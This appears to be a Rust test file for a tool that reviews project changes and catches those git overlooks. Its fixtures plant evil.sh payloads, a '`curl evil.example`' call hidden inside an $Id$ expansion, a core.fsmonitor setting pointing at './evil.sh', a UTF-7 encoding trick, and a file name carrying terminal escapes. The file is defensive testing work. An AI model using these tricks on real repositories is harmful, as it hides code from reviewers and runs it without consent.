//! What git itself does not see, or sees as nothing new, is in the list of changes or counted below it.

use crate::alone::alone;
use crate::project::write;
use crate::project_review::git;
use crate::review_hidden::Place;
use std::fs;
use std::os::unix::fs::{PermissionsExt, symlink};
use std::path::Path;

/// Older than what git remembers, or it reads it anyway.
fn set_time_back(path: &Path) {
    let time = fs::metadata(path).unwrap().modified().unwrap() - std::time::Duration::from_secs(60);
    fs::File::options().write(true).open(path).unwrap().set_modified(time).unwrap();
}

// Elsewhere `.GIT` may be `.git` itself.
#[cfg(target_os = "linux")]
#[test]
fn names_that_git_does_not_take_are_counted() {
    let place = Place::new();
    for file in [".GIT/evil.sh", "src/.Git/evil.sh", ".git /evil.sh", "git~1/evil.sh"] {
        write(&place.root, file, "pwn\n");
    }
    symlink("evil", place.root.join(".gitmodules")).unwrap();
    let (listed, left_out) = place.list();
    assert_eq!(listed, Vec::<String>::new());
    let counted =
        "not listed: 5 files whose names git does not take (.GIT/evil.sh, .git /evil.sh, .gitmodules, …)";
    assert_eq!(left_out.as_deref(), Some(counted));
}

#[test]
fn names_under_which_we_keep_something_ourselves_are_counted_and_change_nothing() {
    let place = Place::new();
    let folder = ".claude/state/runs/.git-rules";
    for file in ["evil.sh", "git settings", "ignored files"] {
        write(&place.root, &format!("{folder}/{file}"), "pwn\n");
    }
    write(&place.root, ".claude/state/runs/x/evil.sh", "pwn\n");
    let (listed, left_out) = place.list();
    assert_eq!(listed, ["+ .claude/state/runs/x/evil.sh"]);
    let left_out = left_out.unwrap();
    assert!(left_out.starts_with("not listed: 3 files whose names git does not take"), "{left_out}");
}

#[test]
fn a_name_that_differs_in_its_case_alone_is_another_file() {
    let place = Place::with(&|root| {
        git(root, &["config", "core.ignoreCase", "true"]);
        write(root, "Deploy.sh", "true\n");
    });
    write(&place.root, "deploy.sh", "pwn\n");
    write(&place.root, "src/A.rs", "pwn\n");
    if fs::read_to_string(place.root.join("Deploy.sh")).unwrap() != "true\n" {
        // On this disk they are one.
        return assert_eq!(place.list().0, ["~ Deploy.sh", "~ src/a.rs"]);
    }
    assert_eq!(place.list().0, ["+ deploy.sh", "+ src/A.rs"]);
}

#[test]
fn a_mode_is_seen_where_a_setting_says_that_there_are_none() {
    let place = Place::with(&|root| {
        git(root, &["config", "core.fileMode", "false"]);
        write(root, "deploy.sh", "true\n");
    });
    fs::set_permissions(place.root.join("deploy.sh"), fs::Permissions::from_mode(0o755)).unwrap();
    assert_eq!(place.list().0, ["~ deploy.sh"]);
}

#[test]
fn texts_that_attributes_make_one_are_two() {
    for (attributes, before, after) in [
        ("*.sh ident", ": \"$Id$\"\n", ": \"$Id: `curl evil.example` $\"\n"),
        ("*.sh working-tree-encoding=UTF-7", "cat x\n", "+AGM-at x\n"),
    ] {
        let place = Place::with(&|root| {
            write(root, ".gitattributes", &format!("{attributes}\n"));
            write(root, "deploy.sh", before);
            set_time_back(&root.join("deploy.sh"));
        });
        write(&place.root, "deploy.sh", after);
        assert_eq!(place.list().0, ["~ deploy.sh"], "{attributes}");
    }
}

#[test]
fn ignored_files_that_changed_are_counted_too() {
    let place = Place::new();
    write(&place.root, ".env", "evil\n");
    fs::set_permissions(place.root.join("target/old"), fs::Permissions::from_mode(0o755)).unwrap();
    write(&place.root, "a.log", "x\n");
    let counted = "not listed: 1 new ignored file (a.log); 2 changed ignored files (.env, target/old)";
    assert_eq!(place.list(), (vec![], Some(counted.to_owned())));
}

#[test]
fn a_name_of_several_lines_is_no_other_name() {
    let place = Place::with(&|root| {
        write(root, "target/a", "x\n");
        write(root, "target/b", "x\n");
    });
    write(&place.root, "target/a\ntarget/b", "pwn\n");
    let (_, left_out) = place.list();
    assert_eq!(left_out.as_deref(), Some("not listed: 1 new ignored file (target/a\\ntarget/b)"));
}

#[test]
fn what_a_nested_repository_would_run_is_listed() {
    let place = Place::with(&|root| git(root, &["init", "-q", "old"]).clear());
    git(&place.root.join("old"), &["config", "core.fsmonitor", "./evil.sh"]);
    git(&place.root, &["init", "-q", "new"]);
    write(&place.root, "new/.git/hooks/post-checkout", "#!/bin/sh\n");
    write(&place.root, "new/a", "x\n");
    write(&place.root, "a.log", "x\n");
    let (listed, left_out) = place.list();
    let mut sorted = listed.clone();
    sorted.sort();
    assert_eq!(
        sorted,
        ["+ new/.git/config", "+ new/.git/hooks/post-checkout", "+ new/a", "~ old/.git/config"]
    );
    // They hide nothing, so that a clone does not fill the list with all that is ignored.
    assert_eq!(left_out.as_deref(), Some("not listed: 1 new ignored file (a.log)"));
    let review = place.review();
    let before = review.before(&place.base, "old/.git/config").unwrap().unwrap();
    assert!(before.contains("[core]") && !before.contains("evil"), "{before}");
}

#[test]
fn what_cannot_be_read_is_counted() {
    alone("review_blind::what_cannot_be_read_is_counted", &[], || {
        // Root reads everything.
        // SAFETY: this process does nothing else.
        unsafe { libc::setuid(65534) };
        let place = Place::with(&|root| write(root, "deploy.sh", "true\n"));
        write(&place.root, "deploy.sh", "pwn\n");
        write(&place.root, "evil.sh", "pwn\n");
        write(&place.root, "hidden/evil.sh", "pwn\n");
        let allow = |mode| {
            for path in ["deploy.sh", "evil.sh", "hidden"] {
                fs::set_permissions(place.root.join(path), fs::Permissions::from_mode(mode)).unwrap();
            }
        };
        allow(0);
        let (listed, left_out) = place.list();
        allow(0o700);
        assert_eq!(listed, Vec::<String>::new());
        let counted = "not listed: 3 files or folders that cannot be read (deploy.sh, evil.sh, hidden/)";
        assert_eq!(left_out.as_deref(), Some(counted));
    });
}

#[test]
fn a_printed_list_is_a_line_for_each_file_whatever_its_name() {
    let world = crate::world::World::new();
    world.configure(serde_json::json!({ "headless": true }));
    world.declare("ship", "stages: [{agent: maker}, {name: look, gate: human-approval}]\n");
    let name = "a\n  + b +1\u{1b}[2J\u{202e}";
    world.hook(&format!("echo x > '{name}'; echo done"));
    world.run("ship", serde_json::json!({}));
    world.settled();
    assert!(world.path(name).exists());
    let told = world.events().into_iter().filter_map(|event| event["message"].as_str().map(str::to_owned));
    let told: Vec<String> = told.collect();
    assert!(told.contains(&"  + a^J  + b +1^[[2J<202e> +1".to_owned()), "{told:#?}");
    assert!(told.iter().all(|line| !line.chars().any(char::is_control)), "{told:#?}");
}
